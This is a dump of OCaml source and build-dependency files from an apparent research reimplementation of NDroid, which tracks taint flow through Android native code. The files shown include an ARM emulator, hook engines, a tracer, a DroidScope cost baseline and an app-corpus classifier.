    (fun app ->
      let observe = run_mode ~block:false app in
      let enforce = run_mode ~block:true app in
      let o_sensitive = contains_sensitive (leaked_payloads observe) in
      let e_sensitive = contains_sensitive (leaked_payloads enforce) in
      let blocked = A.Sink_monitor.blocked_count (Device.monitor enforce) in
      Printf.printf "%-16s %-28s %s\n" app.H.app_name
        (if o_sensitive then "sensitive data escaped" else "clean")
        (if e_sensitive then "LEAKED ANYWAY (bug!)"
         else Printf.sprintf "contained (%d sink%s blocked/scrubbed)" blocked
                (if blocked = 1 then "" else "s")))
    apps
