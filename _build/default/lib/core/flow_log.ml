type t = { mutable log : string list; mutable n : int }

let create () = { log = []; n = 0 }

let record t line =
  t.log <- line :: t.log;
  t.n <- t.n + 1

let recordf t fmt = Format.kasprintf (record t) fmt
let entries t = List.rev t.log

let clear t =
  t.log <- [];
  t.n <- 0

let count t = t.n

let contains_substring hay needle =
  let nl = String.length needle and hl = String.length hay in
  if nl = 0 then true
  else
    let rec loop i =
      if i + nl > hl then false
      else if String.sub hay i nl = needle then true
      else loop (i + 1)
    in
    loop 0

let matching t needle = List.filter (fun e -> contains_substring e needle) (entries t)
