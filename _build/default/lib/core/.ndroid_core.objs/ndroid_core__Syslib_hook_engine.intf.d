lib/core/syslib_hook_engine.mli: Flow_log Ndroid_runtime Taint_engine
