lib/core/ndroid.mli: Flow_log Format Ndroid_android Ndroid_runtime Taint_engine
