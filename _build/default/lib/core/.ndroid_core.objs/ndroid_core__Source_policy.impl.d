lib/core/source_policy.ml: Array Format Hashtbl Ndroid_arm Ndroid_dalvik Ndroid_runtime Ndroid_taint Taint_engine
