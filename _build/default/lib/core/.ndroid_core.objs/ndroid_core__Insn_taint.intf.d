lib/core/insn_taint.mli: Ndroid_arm Taint_engine
