lib/core/dvm_hook_engine.mli: Flow_log Ndroid_runtime Source_policy Taint_engine
