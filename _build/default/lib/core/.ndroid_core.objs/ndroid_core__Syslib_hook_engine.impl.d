lib/core/syslib_hook_engine.ml: Array Bytes Char Flow_log List Ndroid_android Ndroid_arm Ndroid_emulator Ndroid_runtime Ndroid_taint Printf String Taint_engine
