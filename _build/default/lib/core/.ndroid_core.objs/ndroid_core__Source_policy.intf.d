lib/core/source_policy.mli: Format Ndroid_arm Ndroid_runtime Ndroid_taint Taint_engine
