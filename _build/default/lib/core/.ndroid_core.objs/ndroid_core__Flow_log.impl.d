lib/core/flow_log.ml: Format List String
