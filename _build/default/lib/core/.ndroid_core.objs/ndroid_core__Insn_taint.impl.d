lib/core/insn_taint.ml: List Ndroid_arm Ndroid_taint Taint_engine
