lib/core/report.ml: Buffer Flow_log Format List Ndroid Ndroid_android Ndroid_taint Printf String
