lib/core/dvm_hook_engine.ml: Array Flow_log Hashtbl List Ndroid_android Ndroid_arm Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint Source_policy String Taint_engine
