lib/core/taint_engine.mli: Ndroid_arm Ndroid_taint
