lib/core/report.mli: Ndroid Ndroid_android
