lib/core/droidscope.mli: Ndroid_runtime
