lib/core/taint_engine.ml: Ndroid_arm Ndroid_taint
