lib/core/flow_log.mli: Format
