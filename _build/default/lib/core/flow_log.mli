(** Structured flow log.

    NDroid's output in the paper is a log of the functions on an
    information flow (Figs. 6-9: SourcePolicy firings, JNI function
    begin/end markers, taint assignments like [t(412a3320) := 0x202], sink
    handler reports).  The engines append here; the case-study experiments
    print it. *)

type t

val create : unit -> t

val record : t -> string -> unit
val recordf : t -> ('a, Format.formatter, unit, unit) format4 -> 'a

val entries : t -> string list
(** Oldest first. *)

val clear : t -> unit
val count : t -> int

val matching : t -> string -> string list
(** Entries containing a substring. *)
