(** The system-lib hook engine (paper, Sec. V-D).

    Rather than tracing libc/libm instruction by instruction, NDroid models
    the taint behaviour of the popular standard functions (Table VI) —
    Listing 3's [memcpy] handler is the canonical example: copy the source
    bytes' taints onto the destination bytes.  The engine also implements
    the native-context {e sinks} of Table VII: when tainted data reaches
    [send], [sendto], [write], [fwrite], [fputs], [fputc] or [fprintf], the
    leak is reported to the device's sink monitor — the check TaintDroid
    cannot perform (its sinks are Java-only, which is why it misses
    case 2). *)

type t

val attach : Ndroid_runtime.Device.t -> Taint_engine.t -> Flow_log.t -> t

val summaries_applied : t -> int
(** Modeled-function taint summaries executed. *)

val sink_checks : t -> int
(** Sink inspections performed (tainted or not). *)
