(** The DroidScope baseline.

    DroidScope "tracks information flow at the instruction level by
    enhancing QEMU and it may incur 11 to 34 times slowdown.  Moreover, it
    reconstructs OS level and DVM level information only from the machine
    instructions without exploiting JNI's semantic information" (paper,
    Secs. I-II).  Two consequences this module reproduces:

    - {b cost}: every instruction in the whole system — including the ones
      "executed by" the Dalvik interpreter for each bytecode — pays for
      virtual-machine introspection plus an instruction-level taint
      operation.  Nothing is summarised, nothing is filtered.
    - {b detection}: "no new information flows than TaintDroid were
      reported" — the source/sink model is TaintDroid's, so the Table I
      detection matrix matches TaintDroid's row. *)

type t

val attach :
  ?vmi_work_per_insn:int -> ?insns_per_bytecode:int ->
  ?insns_per_host_call:int -> Ndroid_runtime.Device.t -> t
(** Instrument a device.  [vmi_work_per_insn] (default 90) is the
    introspection work performed per machine instruction;
    [insns_per_bytecode] (default 3) models the per-bytecode dispatch +
    execute instruction count per DVM bytecode, each of which also pays the
    per-instruction cost; [insns_per_host_call] (default 110) models a
    library function's body, which DroidScope instruments in full where
    NDroid substitutes a summary. *)

val instructions_processed : t -> int
(** Machine instructions (real + interpreter-generated) instrumented. *)
