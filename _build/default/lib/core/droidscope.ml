module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Os_view = Ndroid_emulator.Os_view
module Taint_map = Ndroid_taint.Taint_map
module Taintdroid = Ndroid_taintdroid.Taintdroid

type t = {
  mutable insns : int;
  mutable scratch : int;
  map : Taint_map.t;
  view : Os_view.view;
  vmi_work : int;
}

let instructions_processed t = t.insns

(* One instrumented instruction: reconstruct enough OS/DVM-level state to
   attribute the instruction (region lookup + introspection hashing), then
   apply an instruction-level shadow-memory operation. *)
let instrument t addr =
  t.insns <- t.insns + 1;
  (match Os_view.find_region t.view addr with
   | Some r -> t.scratch <- t.scratch lxor r.Os_view.r_base
   | None -> ());
  let acc = ref t.scratch in
  for i = 1 to t.vmi_work do
    acc := ((!acc * 1103515245) + 12345 + i) land 0xFFFFFF
  done;
  t.scratch <- !acc;
  Taint_map.add t.map (addr land 0xFFFF) Ndroid_taint.Taint.clear;
  if !acc land 0xFFF = 0 then Taint_map.set t.map (addr land 0xFFFF) Ndroid_taint.Taint.clear

let attach ?(vmi_work_per_insn = 90) ?(insns_per_bytecode = 3) ?(insns_per_host_call = 110) device =
  ignore (Taintdroid.attach device);
  let machine = Device.machine device in
  let t =
    { insns = 0;
      scratch = 0x5ca1ab1e;
      map = Taint_map.create ();
      view = Os_view.reconstruct machine;
      vmi_work = vmi_work_per_insn }
  in
  (* every native instruction, system libraries included: no filter *)
  Machine.add_listener machine (fun ev ->
      match ev with
      | Machine.Ev_insn { addr; _ } -> instrument t addr
      | Machine.Ev_host_pre hf ->
        (* DroidScope has no function summaries: a library call is just
           more instructions.  Model the library body's instruction
           stream. *)
        for i = 0 to insns_per_host_call - 1 do
          instrument t (hf.Machine.hf_addr + (4 * i))
        done
      | Machine.Ev_host_post _ | Machine.Ev_branch _ | Machine.Ev_svc _ -> ());
  (* the Dalvik interpreter itself runs on the emulated CPU: every bytecode
     costs a dispatch-and-execute burst of instrumented instructions *)
  (Device.vm device).Ndroid_dalvik.Vm.on_bytecode <-
    Some
      (fun _m _insn ->
        for i = 0 to insns_per_bytecode - 1 do
          instrument t (0x40030000 + (4 * i))
        done);
  t
