(** Analysis report.

    Renders everything an attached NDroid instance learned about one app
    run — the verdict, each leak with its taint categories, the source
    policies that fired, the engine statistics, and the flow log — as the
    kind of triage report an analyst (or the paper's Sec. VI evaluation)
    works from. *)

val generate :
  ?app_name:string ->
  ?transmissions:Ndroid_android.Network.transmission list ->
  ?file_writes:Ndroid_android.Filesystem.write_record list ->
  Ndroid.t ->
  string

val print :
  ?app_name:string ->
  ?transmissions:Ndroid_android.Network.transmission list ->
  ?file_writes:Ndroid_android.Filesystem.write_record list ->
  Ndroid.t ->
  unit
(** {!generate} to stdout. *)
