type t = { mutable traced : int; mutable skipped : int }

let attach ?(filter = Layout.in_app_lib) ~handler machine =
  let t = { traced = 0; skipped = 0 } in
  Machine.add_listener machine (fun ev ->
      match ev with
      | Machine.Ev_insn { addr; insn } ->
        if filter addr then begin
          t.traced <- t.traced + 1;
          handler ~addr ~insn
        end
        else t.skipped <- t.skipped + 1
      | Machine.Ev_branch _ | Machine.Ev_host_pre _ | Machine.Ev_host_post _
      | Machine.Ev_svc _ ->
        ());
  t

let traced t = t.traced
let skipped t = t.skipped
