(** Multilevel hooking.

    "We propose a multilevel hooking technique to assure that the
    instrumentation of dvmCallMethod* and dvmInterpret is triggered only by
    the native codes under examination.  Its basic idea is to define and
    check a sequence of preconditions before hooking certain methods"
    (paper, Sec. V-B and Fig. 5).

    A chain is a call path, e.g.
    [CallVoidMethodA → dvmCallMethodA → dvmInterpret].  The tracker watches
    branch events and reports when level k is entered — meaning every
    condition T1..Tk holds: the path was entered {e from third-party native
    code} and followed exactly — and when levels unwind on return edges.
    Branches into chain functions from anywhere else (e.g. the framework
    itself calling dvmInterpret) match no condition and are ignored, which
    is the whole point: no instrumentation cost off the interesting path. *)

type action =
  | Enter of int  (** condition T(k+1) just became true; 0-based level *)
  | Leave of int  (** the level's function returned *)

type t

val create : chain:(int -> bool) list -> in_native:(int -> bool) -> t
(** [chain] is one membership test per level, outermost first — e.g.
    level 0 accepts the entry address of any [Call*Method*] wrapper,
    level 1 any [dvmCallMethod*], level 2 [dvmInterpret].  [in_native]
    classifies the origin of the first branch (T1's "Ifrom is within the
    native code"). *)

val exact : int -> int -> bool
(** [exact addr] is a chain test matching exactly [addr]. *)

val observe : t -> from_:int -> to_:int -> action option
(** Feed a branch event; returns what changed, if anything. *)

val level : t -> int
(** Current depth: 0 = not on the path, k = conditions T1..Tk hold. *)

val active : t -> bool
(** [level t > 0]. *)

val reset : t -> unit

val checks : t -> int
(** Number of branch events inspected (ablation A2 accounting). *)
