(** OS-level view reconstructor.

    "NDroid contains a customized OS-level view reconstructor motivated by
    DroidScope for obtaining the information of processes and memory map in
    Linux" (paper, Sec. V-A / V-F).  It rebuilds, from the machine's state
    alone, the process list and each region of the memory map — which is how
    NDroid knows where third-party libraries start (Sec. V-G: "obtains the
    start addresses of the system libraries from the memory map"). *)

type process = { pid : int; name : string; uid : int }

type region = { r_name : string; r_base : int; r_size : int; r_pages : int }

type view = { processes : process list; memory_map : region list }

val reconstruct : Machine.t -> view
(** Walk the machine's mapped libraries and touched pages. *)

val find_region : view -> int -> region option
(** Which mapped region an address falls in. *)

val pp : Format.formatter -> view -> unit

val introspection_work : view -> int
(** A deterministic "cost" proxy: how much work a per-instruction VMI pass
    (DroidScope's approach) performs per query.  Used by the DroidScope
    baseline's overhead model. *)
