module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory
module Insn = Ndroid_arm.Insn
module Exec = Ndroid_arm.Exec
module Icache = Ndroid_arm.Icache
module Asm = Ndroid_arm.Asm

type host_fn = { hf_name : string; hf_lib : string; hf_addr : int }

type event =
  | Ev_insn of { addr : int; insn : Insn.t }
  | Ev_branch of { from_ : int; to_ : int; is_call : bool }
  | Ev_host_pre of host_fn
  | Ev_host_post of host_fn
  | Ev_svc of int

exception Runaway of int

type t = {
  m_cpu : Cpu.t;
  m_mem : Memory.t;
  host_by_addr : (int, host_fn * (Cpu.t -> Memory.t -> unit)) Hashtbl.t;
  host_by_name : (string, host_fn * (Cpu.t -> Memory.t -> unit)) Hashtbl.t;
  mutable listeners : (event -> unit) list;
  mutable icache : Icache.t option;
  mutable insn_count : int;
  mutable host_calls : int;
  mutable libs : (string * int * int) list;
  mutable fuel : int option;  (* set by the outermost call_native *)
  mutable host_work : int;
}

let create () =
  let cpu = Cpu.create () in
  Cpu.set_sp cpu Layout.stack_top;
  { m_cpu = cpu;
    m_mem = Memory.create ();
    host_by_addr = Hashtbl.create 256;
    host_by_name = Hashtbl.create 256;
    listeners = [];
    icache = Some (Icache.create ());
    insn_count = 0;
    host_calls = 0;
    libs = Layout.regions;
    fuel = None;
    host_work = 2500 }

let cpu t = t.m_cpu
let mem t = t.m_mem

let set_icache_enabled t enabled =
  t.icache <- (if enabled then Some (Icache.create ()) else None)

let set_host_fn_work t n = t.host_work <- max 0 n

(* The stand-in for the instructions a real library function body would
   execute: paid in every configuration. *)
let burn_host_work t =
  let acc = ref 1 in
  for i = 1 to t.host_work do
    acc := (!acc * 33) + i
  done;
  ignore (Sys.opaque_identity !acc)

let icache_stats t =
  match t.icache with
  | Some c -> (Icache.hits c, Icache.misses c)
  | None -> (0, 0)

let mount_host_fn t ~lib ~name ~addr run =
  if Hashtbl.mem t.host_by_addr addr then
    invalid_arg (Printf.sprintf "host address 0x%x already mounted" addr);
  let hf = { hf_name = name; hf_lib = lib; hf_addr = addr } in
  Hashtbl.replace t.host_by_addr addr (hf, run);
  Hashtbl.replace t.host_by_name name (hf, run);
  hf

let host_fn_addr t name = (fst (Hashtbl.find t.host_by_name name)).hf_addr

let find_host_fn t addr =
  match Hashtbl.find_opt t.host_by_addr addr with
  | Some (hf, _) -> Some hf
  | None -> None

let add_listener t f = t.listeners <- t.listeners @ [ f ]
let clear_listeners t = t.listeners <- []

let emit t ev = List.iter (fun f -> f ev) t.listeners

let emit_branch t ~from_ ~to_ ~is_call =
  if t.listeners <> [] then emit t (Ev_branch { from_; to_; is_call })

let call_host t ~from_ name =
  let hf, run = Hashtbl.find t.host_by_name name in
  t.host_calls <- t.host_calls + 1;
  burn_host_work t;
  if t.listeners <> [] then begin
    emit t (Ev_branch { from_; to_ = hf.hf_addr; is_call = true });
    emit t (Ev_host_pre hf)
  end;
  run t.m_cpu t.m_mem;
  if t.listeners <> [] then begin
    emit t (Ev_host_post hf);
    emit t (Ev_branch { from_ = hf.hf_addr; to_ = from_ + 4; is_call = false })
  end

let load_program t prog =
  Asm.load prog t.m_mem;
  t.libs <- t.libs @ [ (Printf.sprintf "lib@%x" (Asm.base prog), Asm.base prog,
                        Asm.size prog) ]

let mask32 = 0xFFFFFFFF

let burn t =
  match t.fuel with
  | Some n ->
    if n <= 0 then raise (Runaway t.insn_count);
    t.fuel <- Some (n - 1)
  | None -> ()

(* One scheduling quantum: either dispatch a host function or execute one
   guest instruction.  Returns unit; the caller polls the PC. *)
let step t =
  let pc = Cpu.pc t.m_cpu in
  match Hashtbl.find_opt t.host_by_addr pc with
  | Some (hf, run) ->
    burn t;
    t.host_calls <- t.host_calls + 1;
    burn_host_work t;
    if t.listeners <> [] then emit t (Ev_host_pre hf);
    run t.m_cpu t.m_mem;
    if t.listeners <> [] then emit t (Ev_host_post hf);
    (* return to the caller, honouring interworking *)
    let ret = Cpu.lr t.m_cpu in
    if ret land 1 = 1 then begin
      t.m_cpu.Cpu.mode <- Cpu.Thumb;
      Cpu.set_pc t.m_cpu (ret land lnot 1)
    end
    else begin
      t.m_cpu.Cpu.mode <- Cpu.Arm;
      Cpu.set_pc t.m_cpu (ret land mask32)
    end;
    emit_branch t ~from_:hf.hf_addr ~to_:(ret land lnot 1) ~is_call:false
  | None ->
    burn t;
    t.insn_count <- t.insn_count + 1;
    if t.listeners <> [] then begin
      let insn, _size = Exec.fetch_decode ?icache:t.icache t.m_cpu t.m_mem pc in
      emit t (Ev_insn { addr = pc; insn })
    end;
    let s = Exec.step ?icache:t.icache t.m_cpu t.m_mem in
    (match s.Exec.branch with
     | Some (from_, to_) when t.listeners <> [] ->
       emit t (Ev_branch { from_; to_; is_call = s.Exec.is_call })
     | Some _ | None -> ());
    (match s.Exec.svc with
     | Some imm when t.listeners <> [] -> emit t (Ev_svc imm)
     | Some _ | None -> ())

let call_native t ?(fuel = 50_000_000) ~addr ~args ?(stack_args = []) () =
  let cpu = t.m_cpu in
  let saved = Cpu.copy cpu in
  let outermost = t.fuel = None in
  if outermost then t.fuel <- Some fuel;
  Fun.protect
    ~finally:(fun () ->
      if outermost then t.fuel <- None;
      (* restore everything; results were read before the restore *)
      Array.blit saved.Cpu.regs 0 cpu.Cpu.regs 0 16;
      cpu.Cpu.n <- saved.Cpu.n;
      cpu.Cpu.z <- saved.Cpu.z;
      cpu.Cpu.c <- saved.Cpu.c;
      cpu.Cpu.v <- saved.Cpu.v;
      cpu.Cpu.mode <- saved.Cpu.mode;
      Array.blit saved.Cpu.vfp_s 0 cpu.Cpu.vfp_s 0 32;
      Array.blit saved.Cpu.vfp_d 0 cpu.Cpu.vfp_d 0 16)
    (fun () ->
      List.iteri (fun i v -> if i < 4 then Cpu.set_reg cpu i v) args;
      (* excess register args spill to the stack before explicit stack args *)
      let reg_overflow =
        if List.length args > 4 then List.filteri (fun i _ -> i >= 4) args else []
      in
      let pushes = reg_overflow @ stack_args in
      let sp = Cpu.sp cpu - (4 * List.length pushes) in
      List.iteri (fun i v -> Memory.write_u32 t.m_mem (sp + (4 * i)) v) pushes;
      Cpu.set_sp cpu sp;
      Cpu.set_reg cpu 14 Layout.return_sentinel;
      if addr land 1 = 1 then begin
        cpu.Cpu.mode <- Cpu.Thumb;
        Cpu.set_pc cpu (addr land lnot 1)
      end
      else begin
        cpu.Cpu.mode <- Cpu.Arm;
        Cpu.set_pc cpu addr
      end;
      while Cpu.pc cpu <> Layout.return_sentinel do
        step t
      done;
      (Cpu.reg cpu 0, Cpu.reg cpu 1))

let insn_count t = t.insn_count
let host_calls t = t.host_calls
let libs t = t.libs
