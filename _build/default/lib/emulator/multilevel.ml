type action = Enter of int | Leave of int

type t = {
  chain : (int -> bool) array;
  in_native : int -> bool;
  mutable level : int;
  mutable returns : int list;  (* expected return addresses, innermost first *)
  mutable checks : int;
}

let exact addr = fun x -> x = addr

let create ~chain ~in_native =
  { chain = Array.of_list chain; in_native; level = 0; returns = []; checks = 0 }

let level t = t.level
let active t = t.level > 0

let reset t =
  t.level <- 0;
  t.returns <- []

let checks t = t.checks

let observe t ~from_ ~to_ =
  t.checks <- t.checks + 1;
  let n = Array.length t.chain in
  if t.level < n && t.chain.(t.level) to_
     && (t.level > 0 || t.in_native from_) then begin
    (* Condition T(level+1): the next chain function entered from the
       expected place.  Remember where it must return to. *)
    t.returns <- (from_ + 4) :: t.returns;
    t.level <- t.level + 1;
    Some (Enter (t.level - 1))
  end
  else
    match t.returns with
    | expected :: rest when t.level > 0 && to_ = expected ->
      t.returns <- rest;
      t.level <- t.level - 1;
      Some (Leave t.level)
    | _ -> None
