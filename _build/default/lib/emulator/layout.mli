(** Guest address-space layout.

    Mirrors the memory map of an Android process as the paper's logs show
    it: system libraries around 0x40000000 ([libdvm.so], [libc.so],
    [libm.so]), the Java heap at 0x41xxxxxx (Fig. 6's String object at
    0x412a3320), the native heap at 0x2axxxxxx (Fig. 8's C strings at
    0x2a141b90), and third-party app libraries at 0x4axxxxxx (Fig. 8's
    native method entry at 0x4a2c7d88). *)

val libdvm_base : int
val libdvm_size : int
val libc_base : int
val libc_size : int
val libm_base : int
val libm_size : int
val app_lib_base : int
val app_lib_size : int
val java_heap_base : int
val native_heap_base : int
val native_heap_size : int
val stack_top : int
val stack_size : int

val return_sentinel : int
(** PC value meaning "return to the host caller"; never a real address. *)

val in_range : base:int -> size:int -> int -> bool
val in_app_lib : int -> bool
val in_system_lib : int -> bool

val regions : (string * int * int) list
(** The static memory map as (name, base, size), used by the OS-level view
    reconstructor. *)
