lib/emulator/machine.mli: Ndroid_arm
