lib/emulator/multilevel.mli:
