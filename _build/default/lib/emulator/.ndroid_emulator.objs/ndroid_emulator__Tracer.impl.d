lib/emulator/tracer.ml: Layout Machine
