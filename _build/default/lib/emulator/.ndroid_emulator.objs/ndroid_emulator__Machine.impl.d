lib/emulator/machine.ml: Array Fun Hashtbl Layout List Ndroid_arm Printf Sys
