lib/emulator/trace.ml: Array Format List Machine Ndroid_arm
