lib/emulator/layout.mli:
