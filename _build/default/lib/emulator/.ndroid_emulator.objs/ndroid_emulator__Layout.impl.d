lib/emulator/layout.ml:
