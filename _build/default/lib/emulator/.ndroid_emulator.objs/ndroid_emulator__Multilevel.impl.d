lib/emulator/multilevel.ml: Array
