lib/emulator/trace.mli: Format Machine Ndroid_arm
