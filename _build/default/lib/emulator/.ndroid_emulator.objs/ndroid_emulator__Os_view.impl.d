lib/emulator/os_view.ml: Format Hashtbl List Machine Ndroid_arm
