lib/emulator/tracer.mli: Machine Ndroid_arm
