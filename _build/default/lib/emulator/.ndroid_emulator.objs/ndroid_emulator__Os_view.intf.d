lib/emulator/os_view.mli: Format Machine
