(** Instruction tracer: the filtered, per-instruction event stream.

    "By instrumenting third-party native libraries, the instruction tracer
    monitors each ARM/Thumb instruction to determine how the taint
    propagates" (paper, Sec. V-C).  The tracer attaches to a machine,
    filters events down to a predicate over addresses (by default: only the
    third-party app library, never the system libraries — whose effects are
    modeled as summaries instead), and feeds surviving instructions to its
    handler. *)

type t

val attach :
  ?filter:(int -> bool) ->
  handler:(addr:int -> insn:Ndroid_arm.Insn.t -> unit) ->
  Machine.t ->
  t
(** [filter] defaults to {!Layout.in_app_lib}. The handler runs before the
    instruction executes. *)

val traced : t -> int
(** Instructions that passed the filter. *)

val skipped : t -> int
(** Instructions filtered out. *)
