(** Execution trace: a bounded ring of the most recent machine activity.

    Useful when a native flow misbehaves: attach, run, then print the tail —
    each line is an executed instruction (with address) or a host-function
    boundary, in order.  Bounded so tracing a long CF-Bench run cannot eat
    the heap. *)

type entry =
  | Insn of { addr : int; insn : Ndroid_arm.Insn.t }
  | Host_enter of string
  | Host_leave of string

type t

val attach : ?capacity:int -> ?filter:(int -> bool) -> Machine.t -> t
(** Start recording ([capacity] defaults to 4096 entries; [filter] defaults
    to accepting every address). *)

val entries : t -> entry list
(** Oldest first, at most [capacity]. *)

val total : t -> int
(** Entries ever recorded (including those that fell off the ring). *)

val clear : t -> unit
val pp_entry : Format.formatter -> entry -> unit
val pp : Format.formatter -> t -> unit
