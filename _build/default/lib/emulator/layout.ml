let libdvm_base = 0x40000000
let libdvm_size = 0x00080000
let libc_base = 0x40100000
let libc_size = 0x00080000
let libm_base = 0x40200000
let libm_size = 0x00040000
let app_lib_base = 0x4A000000
let app_lib_size = 0x00400000
let java_heap_base = 0x41000000
let native_heap_base = 0x2A000000
let native_heap_size = 0x04000000
let stack_top = 0x60000000
let stack_size = 0x00100000
let return_sentinel = 0xFFFF0000

let in_range ~base ~size addr = addr >= base && addr < base + size
let in_app_lib addr = in_range ~base:app_lib_base ~size:app_lib_size addr

let in_system_lib addr =
  in_range ~base:libdvm_base ~size:libdvm_size addr
  || in_range ~base:libc_base ~size:libc_size addr
  || in_range ~base:libm_base ~size:libm_size addr

let regions =
  [ ("libdvm.so", libdvm_base, libdvm_size);
    ("libc.so", libc_base, libc_size);
    ("libm.so", libm_base, libm_size);
    ("app_native_lib", app_lib_base, app_lib_size);
    ("dalvik-heap", java_heap_base, 0x00800000);
    ("native-heap", native_heap_base, native_heap_size);
    ("stack", stack_top - stack_size, stack_size) ]
