type entry =
  | Insn of { addr : int; insn : Ndroid_arm.Insn.t }
  | Host_enter of string
  | Host_leave of string

type t = {
  ring : entry option array;
  mutable next : int;
  mutable total : int;
}

let record t entry =
  t.ring.(t.next) <- Some entry;
  t.next <- (t.next + 1) mod Array.length t.ring;
  t.total <- t.total + 1

let attach ?(capacity = 4096) ?(filter = fun _ -> true) machine =
  let t = { ring = Array.make (max 16 capacity) None; next = 0; total = 0 } in
  Machine.add_listener machine (fun ev ->
      match ev with
      | Machine.Ev_insn { addr; insn } ->
        if filter addr then record t (Insn { addr; insn })
      | Machine.Ev_host_pre hf -> record t (Host_enter hf.Machine.hf_name)
      | Machine.Ev_host_post hf -> record t (Host_leave hf.Machine.hf_name)
      | Machine.Ev_branch _ | Machine.Ev_svc _ -> ());
  t

let entries t =
  let n = Array.length t.ring in
  let rec collect acc i remaining =
    if remaining = 0 then acc
    else
      let idx = (t.next - 1 - i + (2 * n)) mod n in
      match t.ring.(idx) with
      | Some e -> collect (e :: acc) (i + 1) (remaining - 1)
      | None -> acc
  in
  collect [] 0 n

let total t = t.total

let clear t =
  Array.fill t.ring 0 (Array.length t.ring) None;
  t.next <- 0;
  t.total <- 0

let pp_entry ppf = function
  | Insn { addr; insn } ->
    Format.fprintf ppf "%08x:  %a" addr Ndroid_arm.Insn.pp insn
  | Host_enter name -> Format.fprintf ppf "--> %s" name
  | Host_leave name -> Format.fprintf ppf "<-- %s" name

let pp ppf t =
  List.iter (fun e -> Format.fprintf ppf "%a@." pp_entry e) (entries t)
