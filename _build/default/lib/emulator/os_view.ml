type process = { pid : int; name : string; uid : int }
type region = { r_name : string; r_base : int; r_size : int; r_pages : int }
type view = { processes : process list; memory_map : region list }

let reconstruct machine =
  let pages = Ndroid_arm.Memory.pages_touched (Machine.mem machine) in
  let memory_map =
    List.map
      (fun (name, base, size) ->
        { r_name = name; r_base = base; r_size = size;
          r_pages = min pages (size / 4096) })
      (Machine.libs machine)
  in
  { processes =
      [ { pid = 1; name = "init"; uid = 0 };
        { pid = 52; name = "zygote"; uid = 0 };
        { pid = 734; name = "com.ndroid.app"; uid = 10052 } ];
    memory_map }

let find_region view addr =
  List.find_opt
    (fun r -> addr >= r.r_base && addr < r.r_base + r.r_size)
    view.memory_map

let pp ppf view =
  Format.fprintf ppf "processes:@.";
  List.iter
    (fun p -> Format.fprintf ppf "  pid=%d uid=%d %s@." p.pid p.uid p.name)
    view.processes;
  Format.fprintf ppf "memory map:@.";
  List.iter
    (fun r ->
      Format.fprintf ppf "  %08x-%08x %s@." r.r_base (r.r_base + r.r_size) r.r_name)
    view.memory_map

let introspection_work view =
  (* Hash every region descriptor: a stand-in for walking task_struct +
     mm_struct the way instruction-level VMI must. *)
  List.fold_left
    (fun acc r -> acc + (Hashtbl.hash (r.r_name, r.r_base, r.r_size) land 0xFF))
    (List.length view.processes)
    view.memory_map
