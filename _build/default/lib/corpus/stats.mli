(** Aggregation of the classifier's output into the Section III numbers and
    the Fig. 2 category distribution. *)

type summary = {
  total : int;
  type1 : int;
  type1_pct : float;  (** the paper's headline 16.46% *)
  type1_no_libs : int;
  type1_no_libs_admob : int;  (** carrying the 8 AdMob classes *)
  admob_pct_of_no_libs : float;  (** the paper's 48.1% *)
  type2 : int;
  type2_loadable : int;
  type3 : int;
  type3_game : int;
  type3_entertainment : int;
  category_hist : (App_model.category * int) list;
      (** Type I apps per category, descending *)
  top_libs : (string * int) list;  (** bundled library popularity, descending *)
}

val summarize : App_model.t Seq.t -> summary
(** One streaming pass over the corpus. *)

val fig2_distribution : summary -> (string * float) list
(** Category shares of Type I apps as percentages, descending (Fig. 2). *)

val pp_summary : Format.formatter -> summary -> unit
val pp_fig2 : Format.formatter -> summary -> unit

(** The "Library Distribution" analysis: the 20 most popular libraries with
    their provenance, mirroring the paper's observations that game-engine
    libraries dominate, media libraries follow, and NDK/system libraries are
    "bundled with the applications for addressing Android's poor
    compatibility". *)
type lib_kind = Game_engine | Media | Compatibility | Other

type lib_entry = {
  le_name : string;
  le_count : int;
  le_kind : lib_kind;
  le_top_category : App_model.category;  (** category bundling it most *)
}

val lib_kind_name : lib_kind -> string

val library_distribution : App_model.t Seq.t -> lib_entry list
(** Top libraries, descending by bundle count. *)

val pp_library_distribution : Format.formatter -> lib_entry list -> unit
