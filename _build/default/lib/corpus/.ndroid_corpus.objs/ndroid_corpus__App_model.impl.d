lib/corpus/app_model.ml: List
