lib/corpus/apk.ml: App_model Array Classifier List Ndroid_arm Ndroid_dalvik Printf String
