lib/corpus/app_model.mli:
