lib/corpus/apk.mli: App_model Classifier
