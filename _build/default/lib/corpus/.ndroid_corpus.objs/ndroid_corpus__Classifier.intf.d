lib/corpus/classifier.mli: App_model
