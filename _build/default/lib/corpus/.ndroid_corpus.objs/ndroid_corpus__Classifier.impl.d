lib/corpus/classifier.ml: App_model List
