lib/corpus/stats.mli: App_model Format Seq
