lib/corpus/stats.ml: App_model Classifier Format Hashtbl List Option Seq String
