lib/corpus/market.mli: App_model Seq
