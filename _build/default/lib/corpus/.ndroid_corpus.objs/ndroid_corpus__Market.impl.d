lib/corpus/market.ml: App_model Char List Printf Seq
