open App_model

type classification =
  | Type_I
  | Type_II of { loadable_via_embedded_dex : bool }
  | Type_III
  | Not_native

let classify app =
  match app.main_dex with
  | None -> if app.libs <> [] then Type_III else Not_native
  | Some dex ->
    if dex_calls_load dex then Type_I
    else if app.libs <> [] then
      Type_II
        { loadable_via_embedded_dex = List.exists dex_calls_load app.embedded_dexes }
    else Not_native

let classification_name = function
  | Type_I -> "Type I"
  | Type_II { loadable_via_embedded_dex = true } -> "Type II (loadable)"
  | Type_II _ -> "Type II"
  | Type_III -> "Type III"
  | Not_native -> "not native"

let uses_native_libraries app = classify app = Type_I
