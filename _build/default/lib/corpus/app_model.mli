(** Model of a market app, carrying exactly the artifacts the Section III
    study inspects: does any dex call [System.load]/[System.loadLibrary],
    which Java classes declare native methods, which [.so] files are
    bundled (and for which ABI), are there embedded (compressed) dex files,
    and is the app pure-native. *)

type category =
  | Game
  | Music_and_audio
  | Personalization
  | Communication
  | Entertainment
  | Tools
  | Books
  | Business
  | Education
  | Finance
  | Health
  | Lifestyle
  | Media_video
  | News
  | Photography
  | Productivity
  | Shopping
  | Social
  | Sports
  | Travel
  | Weather

val category_name : category -> string
val all_categories : category list

type abi = Armeabi | X86 | Mips

type native_lib = { lib_name : string; abi : abi }

type dex = {
  method_refs : string list;
      (** invoked-method signatures found in the dex, e.g.
